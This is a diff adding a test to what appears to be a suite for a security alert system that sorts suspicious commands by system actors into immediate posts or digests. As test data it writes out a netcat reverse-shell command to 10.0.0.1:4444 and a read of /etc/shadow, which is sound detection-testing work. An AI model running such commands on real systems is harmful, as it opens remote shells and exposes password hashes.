@@ -73,6 +73,20 @@ describe('system actors are digested, not posted', () => {
     }
   }, 60_000);
 
+  it('posts a critical command with no login user at once (a web shell), and digests the rest', async () => {
+    h = await new Harness().start();
+    runAsSystem(h, ['nc', '-e', '/bin/sh', '10.0.0.1', '4444'], 'web-1', '/var/www');
+    runAsSystem(h, ['cat', '/etc/shadow'], 'web-1');
+    await h.settle();
+    const alerts = await h.alerts();
+    expect(alerts.map((alert) => [alert.rule_id, alert.escalation_reason]).sort()).toEqual([
+      ['reverse-shell', 'unknown_owner'],
+      ['shadow-read', 'system_actor'],
+    ]);
+    expect(h.security()).toHaveLength(1);
+    expect(h.security()[0]!.text).toContain('nc -e /bin/sh');
+  }, 60_000);
+
   it('keeps people out of the digest: a command by a login user is still asked in a DM', async () => {
     h = await new Harness().start();
     runAsSystem(h, ['cat', '/etc/shadow'], 'web-1');
